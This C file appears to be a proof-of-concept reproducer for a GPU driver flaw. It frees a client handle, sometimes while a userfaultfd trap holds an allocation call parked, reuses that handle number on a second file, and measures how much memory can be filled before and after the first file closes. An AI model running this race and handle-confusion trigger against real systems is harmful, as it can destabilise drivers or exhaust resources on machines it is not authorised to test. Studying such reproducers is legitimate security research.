// SPDX-License-Identifier: Apache-2.0
/*
 * reuse heap|parked BYTES: a client's number comes to stand for a client on another file, in ways that an engine could miss;
 * then the first file is closed. Takes all that it is given before and after that, and rests with it.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>

#include "client.h"
#include "userfault.h"

static struct settings settings;
static struct session first;
static struct trap trap;

/* The driver's other way to free: it takes a client as well. */
static uint32_t free_client_as_memory(struct session *session)
{
	struct rm_ioctl io = rm_heap_free_ioctl(settings.abi, session->client, session->device, session->client);

	return driver_call(&settings, session->ctl, io.nr, io.data, io.bytes);
}

/* Virtual memory below the client, a call that goes on; its answer is stopped on its way out. */
static void *late_answer(void *argument)
{
	uint32_t handle = 0xbeef;

	session_alloc(&first, first.device, NV50_MEMORY_VIRTUAL, trap.page, 0, &handle);
	return argument;
}

static bool start_late_answer(pthread_t *thread)
{
	const struct nv_layout_NV_MEMORY_ALLOCATION_PARAMS *at = &settings.abi->NV_MEMORY_ALLOCATION_PARAMS;
	uint8_t params[CLIENT_PARAMS] = { 0 };

	rm_memory_params(params, settings.abi, NVOS32_ATTR_LOCATION_PCI << NVOS32_ATTR_LOCATION_SHIFT, 65536);
	put32(params, at->flags, NVOS32_ALLOC_FLAGS_VIRTUAL);
	return trap_make(&trap, true, params, sizeof(params)) && pthread_create(thread, NULL, late_answer, NULL) == 0 &&
		trap_wait(&trap);
}

/* The same number on another file. */
static uint32_t make_again(struct session *second)
{
	session_init(second, &settings, 0);
	second->client = first.client;
	return session_open(second);
}

static int failed(const char *what, uint32_t status)
{
	fprintf(stderr, "%s: status 0x%x: ", what, status);
	perror(NULL);
	return 1;
}

int main(int argc, char **argv)
{
	uint64_t piece, before, after;
	struct session second;
	pthread_t thread;
	uint32_t status;
	bool parked;

	client_begin(&settings, &argc, &argv, 2);
	parked = strcmp(argv[0], "parked") == 0;
	piece = strtoull(argv[1], NULL, 0);
	client_open(&first, &settings);
	if (parked && !start_late_answer(&thread))
		return failed("userfaultfd", 0);
	status = parked ? session_free(&first, first.client) : free_client_as_memory(&first);
	if (status == NV_OK)
		status = make_again(&second);
	if (status != NV_OK)
		return failed("second client", status);
	before = client_fill(&second, piece);
	if (parked) {
		trap_release(&trap, NULL, 0);
		pthread_join(thread, NULL);
	}
	session_drop(&first);
	after = client_fill(&second, piece);
	printf("resting before=%llu after=%llu\n", (unsigned long long)before, (unsigned long long)after);
	client_rest();
}
